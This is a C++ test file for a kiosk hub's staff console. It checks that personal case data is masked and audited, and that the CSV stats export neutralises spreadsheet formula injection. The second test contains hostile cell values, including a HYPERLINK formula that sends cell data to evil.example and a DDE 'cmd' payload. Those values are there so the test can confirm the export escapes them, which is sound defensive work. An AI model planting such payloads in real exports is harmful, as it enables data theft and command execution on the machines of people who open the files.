        enqueueAs(dir / "kiosk", "KS0001", "case", caseData(), casePersonal("13812345678"), 1'700'000'000'000);
    ASSERT_EQ(syncOnce(dir / "kiosk", dir)["stored"], 1);
    auto c = h.client(h.staffPort);
    auto li = login(*c, "li", kPassword);
    auto wang = login(*c, "wang", kPassword);
    ASSERT_TRUE(li && wang);

    auto full = c->Get("/staff/api/cases/" + number, with(*li, false));
    ASSERT_TRUE(full);
    ASSERT_EQ(full->status, 200) << full->body;
    const auto f = nlohmann::json::parse(full->body);
    EXPECT_EQ(f["personal"]["mobile"], "13812345678");
    EXPECT_EQ(f["personal"]["credit_code"], "914403001922038216");
    EXPECT_EQ(f["personal_masked"], false);
    const auto entries = [&] {
        std::vector<nlohmann::json> out;
        const std::string text = h.hub.cli({"staff", "audit", "--json"});
        for (std::size_t at = 0; at < text.size();) {
            const std::size_t end = std::min(text.find('\n', at), text.size());
            auto j = nlohmann::json::parse(text.substr(at, end - at), nullptr, false);
            if (!j.is_discarded() && j["action"] == "case.view_personal") out.push_back(j);
            at = end + 1;
        }
        return out;
    };
    auto views = entries();
    ASSERT_EQ(views.size(), 1u) << "one look, one audit row";
    EXPECT_EQ(views[0]["actor"], "li");
    EXPECT_EQ(views[0]["target"], number);
    EXPECT_GT(views[0]["at"].get<std::int64_t>(), 0);

    auto masked = c->Get("/staff/api/cases/" + number, with(*wang, false));
    ASSERT_TRUE(masked);
    ASSERT_EQ(masked->status, 200) << masked->body;
    const auto m = nlohmann::json::parse(masked->body);
    EXPECT_EQ(m["personal_masked"], true);
    EXPECT_EQ(m["personal"]["mobile"], "138****5678");
    EXPECT_EQ(m["personal"]["contact_name"], "王**");
    EXPECT_EQ(m["personal"]["credit_code"], "**************8216");
    EXPECT_TRUE(m["personal"]["description"].is_null()) << "the visitor's free text stays with those who handle it";
    EXPECT_TRUE(m["personal"]["enterprise"].is_null());
    EXPECT_EQ(masked->body.find("13812345678"), std::string::npos);
    EXPECT_EQ(entries().size(), 1u) << "a masked view reveals nothing to log";

    // `kiosk-hub cases show` prints the details in full: audited the same way.
    int code = 0;
    const std::string shown = h.hub.cli({"cases", "show", number, "--actor", "zhang"}, &code);
    ASSERT_EQ(code, 0) << shown;
    views = entries();
    ASSERT_EQ(views.size(), 2u);
    EXPECT_EQ(views[0]["actor"], "zhang");
    EXPECT_EQ(h.hub.log().find("13812345678"), std::string::npos) << "no personal data in the log";
}

// Finding 7: a name from a kiosk starting with = + - @ ran as a formula in
// the spreadsheet a manager opened the export in.
TEST(StaffConsole, StatsCsvCellsASpreadsheetWouldRunAreText) {
    const fs::path dir = testDir();
    ConsoleHub h(dir);
    ASSERT_TRUE(h.start()) << h.hub.log();
    ASSERT_EQ(h.addStaff("wang", "manager"), 0);
    provision(h.hub, dir / "kiosk", dir);
    const std::vector<std::pair<std::string, std::string>> hostile = {
        {"svc-1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")"},
        {"svc-2", "+1+cmd|' /C calc'!A0"},
        {"svc-3", "-2+3"},
        {"svc-4", "@SUM(1+1)"},
        {"svc-5", "\t=1+1"},
        {"svc-6", "\r=1+1"},
        {"=svc-7", "营业执照设立登记"},
    };
    std::int64_t at = 1'700'000'000'000;
    std::vector<protocol::UploadItem> older;  // what this hub refuses (a control character) …
    for (const auto& [id, name] : hostile) {
        auto r = badRating(id, name, "i-" + id);
        r["callback"] = false;
        if (name.find_first_of("\t\r") == std::string::npos) {
            enqueueAs(dir / "kiosk", "KS0001", "rating", r, nlohmann::json::object(), at++);
            continue;
        }
        protocol::UploadItem item;
        item.uuid = fmt::format("00000000-0000-4000-8000-{:012}", older.size() + 1);
        item.seq = 1000 + std::int64_t(older.size());
        item.kind = "rating";
        item.number = fmt::format("OLD{}", older.size());
        item.createdMs = at++;
        item.publicData = r;
        older.push_back(std::move(item));
    }
    ASSERT_EQ(syncOnce(dir / "kiosk", dir)["stored"], long(hostile.size() - older.size()));
    {  // … but an older hub stored it, and its export must still be safe.
        auto db = hubdb::openDatabase((dir / "hub/hub.db").string(), 1);
        ASSERT_TRUE(db.has_value());
        auto stored = hubdb::HubStore(**db).storeBatch("KS0001", older, 1'700'000'100);
        ASSERT_TRUE(stored.has_value());
        for (const auto& a : *stored) ASSERT_EQ(a.code, 201) << a.message;
    }
    auto c = h.client(h.staffPort);
    auto wang = login(*c, "wang", kPassword);
    ASSERT_TRUE(wang);
    auto csv = c->Get("/staff/api/stats.csv?by=service", with(*wang, false));
    ASSERT_TRUE(csv);
    ASSERT_EQ(csv->status, 200);
    const std::string cli = h.hub.cli({"ratings", "stats", "--by", "service", "--csv"});
    EXPECT_EQ(csv->body, "\xEF\xBB\xBF" + cli) << "the console's CSV is the CLI's";
    for (const std::string& want : {
             std::string(R"x("'=HYPERLINK(""http://evil.example/?""&A1,""点此"")")x"),
             std::string(R"x("'+1+cmd|' /C calc'!A0")x"),
             std::string(R"x("'-2+3")x"),
             std::string(R"x("'@SUM(1+1)")x"),
             std::string("\"'\t=1+1\""),
             std::string("\"'\r=1+1\""),
             std::string(R"x("'=svc-7",营业执照设立登记,1,0,0.0,1,0,0,n/a,0,0.0)x"),
         })
        EXPECT_NE(csv->body.find(want), std::string::npos) << "missing " << want << " in\n" << csv->body;
    // Every cell that is not a number the hub wrote starts as text.
    std::size_t lineStart = csv->body.find('\n') + 1;  // after the header
    int rows = 0;
    while (lineStart < csv->body.size()) {
        std::size_t end = csv->body.find("\n", lineStart);
        // A quoted cell may hold a CR or LF: read to the end of the record.
        while (end != std::string::npos &&
               std::count(csv->body.begin() + long(lineStart), csv->body.begin() + long(end), '"') % 2 == 1)
            end = csv->body.find('\n', end + 1);
        const std::string line = csv->body.substr(lineStart, end - lineStart);
        ++rows;
        for (const char* bad : {",=", ",+", ",-", ",@", ",\t", ",\r", "\"=", "\"+", "\"-", "\"@"})
            EXPECT_EQ(line.find(bad), std::string::npos) << "a cell starting " << bad << " in: " << line;
        EXPECT_TRUE(line.empty() || std::string("=+-@\t\r").find(line[0]) == std::string::npos) << line;
        if (end == std::string::npos) break;
        lineStart = end + 1;
    }
    EXPECT_EQ(rows, int(hostile.size())) << csv->body;
}
